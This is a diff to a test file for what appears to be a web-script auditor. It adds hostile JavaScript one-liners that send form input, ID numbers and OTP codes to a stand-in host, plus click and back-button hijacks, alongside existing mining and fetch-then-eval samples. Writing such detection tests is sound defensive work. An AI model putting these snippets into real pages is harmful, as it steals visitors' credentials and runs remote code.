@@ -22,6 +22,16 @@ from auditor.content.page.script_acts import join_shown_texts, list_acts
         ("new Zeta.Anonymous('k',{throttle:.2}).start()", "mines"),
         ("new WebSocket('wss://p.example');new Worker(u);s.send({job_id:1,nonce:2})", "mines"),
         ("fetch('//a.example').then(r=>r.text()).then(t=>eval(t))", "runs_fetched"),
+        (
+            "document.querySelectorAll('input').forEach(i=>i.addEventListener('blur',()=>new Image().src=u+i.value))",
+            "sends_input",
+        ),
+        ("fetch('//a.example',{body:JSON.stringify({a:cccd.value,b:otp.value})})", "sends_input"),
+        ("document.addEventListener('click',function(){window.open('https://a.example/')})", "hijacks"),
+        (
+            "history.pushState(1,'');onpopstate;x.addEventListener('popstate',()=>{location.replace('//a.example')})",
+            "hijacks",
+        ),
     ],
 )
 def test_what_a_script_does_is_told(code: str, act: str) -> None:
@@ -38,6 +48,8 @@ def test_what_a_script_does_is_told(code: str, act: str) -> None:
         "new Worker('/pdf.js');WebAssembly.instantiateStreaming(fetch('/jpeg.wasm'))",
         "new WebSocket('wss://chat.example').onmessage=show",
         "fetch('/api').then(r=>r.json()).then(show)",
+        "document.addEventListener('click',e=>{menu.classList.remove('open')})",
+        "history.pushState({},'',u);window.addEventListener('popstate',()=>{load(location.pathname)})",
         "$('form').on('submit',function(){return validate(this.elements)})",
     ],
 )
